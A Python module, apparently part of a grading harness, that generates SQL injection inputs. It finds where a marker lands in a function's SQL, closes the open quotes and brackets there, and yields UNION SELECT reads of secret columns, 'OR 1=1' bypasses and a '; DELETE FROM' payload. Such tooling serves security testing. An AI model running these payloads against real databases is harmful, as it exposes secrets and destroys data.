"""Inputs grown from the function's own SQL: a marker is sent, found in the text, and the text around it closed."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence

from graders.kernel.randomness import drawing
from graders.sql.parsing import Unreadable, parse
from graders.techniques.attacks.subject import Sent

MOST_COLUMNS = 8


def marker_for(kind: str) -> str:
    """A word, or for a number a number, that stands in no honest statement; it is new each time."""
    digits = str(drawing().randrange(1_000_000, 10_000_000))
    return digits if kind == "number" else f"zqxj{digits}"


def places_of(marker: str, sent: Iterable[Sent]) -> list[str]:
    """The statements in whose text `marker` stands, in any case of letters."""
    return [one.statement for one in sent if marker.casefold() in one.statement.casefold()]


def grown(statement: str, marker: str, secrets: Sequence[tuple[str, str]], engine: str) -> Iterator[str]:
    """Inputs that would turn `statement`, in which `marker` stands, into one that reads `secrets` or gives all rows.

    `secrets` are pairs of table and column. The closing quote and brackets are those that are open at the marker.
    """
    before = statement[: statement.casefold().index(marker.casefold())]
    close = _open_quote(before) + ")" * _open_brackets(before)
    for table, column in secrets:
        for columns in _widths(statement, engine):
            yield f"{marker}{close} UNION SELECT {', '.join([column] * columns)} FROM {table} -- "
        yield f"(SELECT {column} FROM {table} LIMIT 1)"
    yield f"{marker}{close} OR 1=1 -- "
    yield f"{marker}{close}; DELETE FROM {secrets[0][0]} -- " if secrets else f"{marker}{close}; SELECT 1 -- "


def _open_quote(before: str) -> str:
    """The quote that is open at the end of `before`, or nothing."""
    quote = ""
    for sign in before:
        if quote and sign == quote:
            quote = ""
        elif not quote and sign in "'\"`":
            quote = sign
    return quote


def _open_brackets(before: str) -> int:
    return max(0, before.count("(") - before.count(")"))


def _widths(statement: str, engine: str) -> list[int]:
    """How many columns a UNION would need: what the statement says, or else every small number."""
    try:
        tree = parse(statement, engine)
    except Unreadable:
        return list(range(1, MOST_COLUMNS))
    named = getattr(tree, "selects", [])
    return [len(named)] if named and not tree.is_star else list(range(1, MOST_COLUMNS))
